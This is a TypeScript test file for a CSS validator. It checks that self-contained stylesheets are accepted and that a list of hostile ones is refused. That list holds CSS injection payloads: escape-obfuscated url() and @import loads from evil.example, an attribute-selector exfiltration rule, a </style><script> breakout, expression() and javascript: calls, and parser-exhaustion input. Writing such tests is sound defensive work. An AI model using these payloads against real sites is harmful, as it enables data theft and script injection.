import { describe, expect, test } from 'vitest'
import { stylesheetFault } from './stylesheet.ts'

const OUTSIDE = 'The stylesheet can use only pictures that it holds itself: url(data:image/…).'

const ALLOWED = [
  '',
  ':root { --accent: oklch(50% 0.2 20); }',
  ".side { background: url('data:image/png;base64,iVBORw0KGgo='); }",
  '.side { background: url( data:image/gif;base64,R0lGODlhAQABAAAAACw= ) }',
  '@media (width < 800px) { .top { color: red } } @supports (display: grid) { a { color: blue } }',
  '/* @import url(https://evil.example) */ a { color: red }',
  'a::before { content: "}"; } b::after { content: "url(https://x)" }',
  '.nav-item:is(:hover, [aria-current]) { color: #c00 }',
  '.banner { position: fixed; inset: 0 auto auto 0 }',
  '@keyframes k { from { opacity: 0 } to { opacity: 1 } }',
  'a { width: calc(100% - (2 * var(--s-1))) }',
  '.we\\:ird, .\\31 23 { color: red }',
  ':is(.a, :has(> .b)) { & .c { color: red } }',
  'a::before { content: "\\"" } b::before { content: "line\\\nend" }',
  '@layer base { @media print { @supports (color: red) { a { color: red } } } }',
  '@scope (.panel) to (.card) { a { color: red } }',
  'a { background: url(data:image/png;base64,AA\\=) }',
  `${'@media all {'.repeat(31)} a { color: red } ${'}'.repeat(31)}`,
]

const ELSEWHERE = [
  'https://evil.example/x.png',
  '//evil.example/x.png',
  '/api/users/me',
  'x.png',
  '#mask',
  'http://localhost:1',
  'ftp://evil.example',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'javascript:alert(1)',
  'data:text/html,<b>',
  'data:text/css,a{}',
  'data:application/javascript,alert(1)',
  'data:image/svg+xml,<svg onload=alert(1)>',
  'data:image/svg+xml;base64,PHN2Zz4=',
  'data:,x',
]

const HOSTILE = [
  '.panel { z-index: 99 }',
  '.panel { Z\\-index: 99 }',
  ':root { --z-modal: -1 }',
  '@property --text { syntax: "*"; inherits: false }',
  ...ELSEWHERE.flatMap((address) => [
    `a { background: url(${address}) }`,
    `a { background: url("${address}") }`,
    `a { background: url( '${address}' ) }`,
  ]),
  '@import "https://evil.example/a.css";',
  "@import url('a.css');",
  '@IMPORT "a.css";',
  '@\\69mport "a.css";',
  '@\\000069 mport "a.css";',
  '@im\\port "a.css";',
  '@/**/import "a.css"; @import "b.css";',
  '@charset "utf-7";',
  '@namespace url(https://evil.example);',
  '@-moz-document url-prefix("") { a { color: red } }',
  '@font-face { font-family: x; src: url(https://evil.example/f.woff2) }',
  '@font-face { font-family: x; src: url(data:font/woff2;base64,AAAA) }',
  'a { background: URL(https://evil.example) }',
  'a { background: u\\72l(https://evil.example) }',
  'a { background: \\75\\72\\6c(https://evil.example) }',
  'a { background: \\000075rl(https://evil.example) }',
  'a { background: url(\\68ttps://evil.example) }',
  'a { background: url(d\\61ta:text/html,x) }',
  'a { background: src("https://evil.example") }',
  'a { background: image-set("https://evil.example/a.png" 1x) }',
  'a { background: -webkit-image-set("https://evil.example/a.png" 1x) }',
  'a { background: image("https://evil.example/a.png") }',
  'a { background: cross-fade("a.png", "b.png") }',
  'a { background: -moz-element(#secret) }',
  'input[value^="a"] { background: url(//evil.example/a) }',
  '@media screen { a { background: url(https://evil.example) } }',
  '@supports (background: url(https://evil.example)) { a { color: red } }',
  ':root { --x: url(https://evil.example) } a { background: var(--x) }',
  'a { cursor: url(https://evil.example/c.cur), auto }',
  'a { width: expression(alert(1)) }',
  'a { width: EXPRESSION(alert(1)) }',
  'a { width: exp\\72 ession(alert(1)) }',
  'a { width: e\\78pression(alert(1)) }',
  'a { behavior: none }',
  'a { -ms-behavior: none }',
  'a { -moz-binding: none }',
  'a { color: red } </style><script>alert(1)</script>',
  'a::before { content: "</style>" }',
  '/* </style> */',
  'a { color: red } } body { display: none',
  '} * { display: none } {',
  'a { color: red',
  'a[href { color: red }',
  'a { content: "no end',
  'a { content: "no end\n } b { background: url(https://evil.example) }',
  '/* no end',
  'a { background: url(data:image/png;base64,AA',
  'a { background: url("data:image/png;base64,AA" }',
  'a { background: url(data:image/png"x) }',
  `/*${'x'.repeat(200_000)}*/`,
  '{'.repeat(1_000_000),
  '{'.repeat(100_000) + '}'.repeat(100_000),
  `a { width: ${'('.repeat(60_000)}${')'.repeat(60_000)} }`,
  `${':is('.repeat(30_000)}a${')'.repeat(30_000)} { color: red }`,
  `${'@media all{'.repeat(15_000)}${'}'.repeat(15_000)}`,
  '@media all { @layer x { @import "a.css"; } }',
  'a { & b { @supports (color: red) { background: url(x.png) } } }',
  '@layer a; @import "b.css" layer(a);',
  '@im\\70 ort"a.css"',
  '@import/**/url(a.css)',
  'a { background: url(/**/"https://evil.example") }',
  'a { background: url(https://evil.example/\\ ) }',
  'a { background: url(https://evil.example/\\) }',
  'a { background: url("data:image/png;base64,AA" "https://evil.example") }',
  'a { background: url("data:image/png;base64,AA"/**/"https://evil.example") }',
  'a { background: url(\ndata:text/html,x\n) }',
  'a { background: url(data:image/png;base64,AA https://evil.example) }',
  'a { background: url(data:image/pn\\\ng;base64,AA) }',
  'a { background: u\\rl(https://evil.example) }',
  'a { background: url\\28 https://evil.example) }',
  'a { background: \\55\\52\\4C("https://evil.example") }',
  'a { background: var(--x, url(https://evil.example)) }',
  '@font-face { font-family: x; src: local("x"), url("x.woff2") }',
  'a { content: "\\',
  'a { content: "\\"',
  "a { content: 'no end\\\n",
  'a { content: "ends\r} b { background: url(x) } "',
  'a { content: "ends\f} b { background: url(https://evil.example) } /*" } */',
  'a { background: url(data:image/png;base64,AA\\)',
  'a { color: red } /* /* */ */ } b {',
  '/*/ a { color: red }',
  'a { b: \\',
  ':host(:has(.scrim)) { -webkit-z-index: 9 }',
  ':root:has(.scrim)::after { content: ""; position: fixed; inset: 0; z-\\69ndex: 99 }',
  ':host { --\\7a-modal: -1 }',
  '} .scrim:has(*) { display: none } a {',
  '} @scope (:root) { .scrim { display: none } ',
  'a { ] } .scrim { [ }',
  'a { ( } .scrim { display: none } { ) }',
]

test.each(ALLOWED)('D-029 a self-contained stylesheet is accepted: %s', (css) => {
  expect(stylesheetFault(css)).toBeUndefined()
})

describe(`T56 D-029 ${HOSTILE.length} hostile sheets`, () => {
  test('there are at least sixty, all different', () => expect(new Set(HOSTILE).size).toBeGreaterThanOrEqual(60))

  test.each(HOSTILE.map((css) => [css.slice(0, 80), css]))('is refused: %s', (_, css) => {
    expect(stylesheetFault(css)).toMatch(/\.$/)
  })
})

test('D-029 the sentence says what is wrong', () => {
  expect(stylesheetFault('@import "a.css";')).toBe('The stylesheet must not use @import.')
  expect(stylesheetFault('a { background: url(x.png) }')).toBe(OUTSIDE)
  expect(stylesheetFault('a { width: expression(1) }')).toBe('The stylesheet must not use expression.')
  expect(stylesheetFault('</style>')).toBe('The stylesheet must not hold "</".')
  expect(stylesheetFault('/* no end')).toBe('A comment in the stylesheet has no end.')
  expect(stylesheetFault('a { content: "no end')).toBe('A text in the stylesheet has no end.')
  expect(stylesheetFault('a { color: red } }')).toBe('A bracket in the stylesheet closes nothing.')
  expect(stylesheetFault('{'.repeat(100))).toBe('Nest the brackets in the stylesheet at most 32 deep.')
  expect(stylesheetFault('{'.repeat(1_000_000))).toBe('The stylesheet can have up to 200 kB.')
  expect(stylesheetFault('a { color: red')).toBe('A bracket in the stylesheet is not closed: "}" is missing.')
})
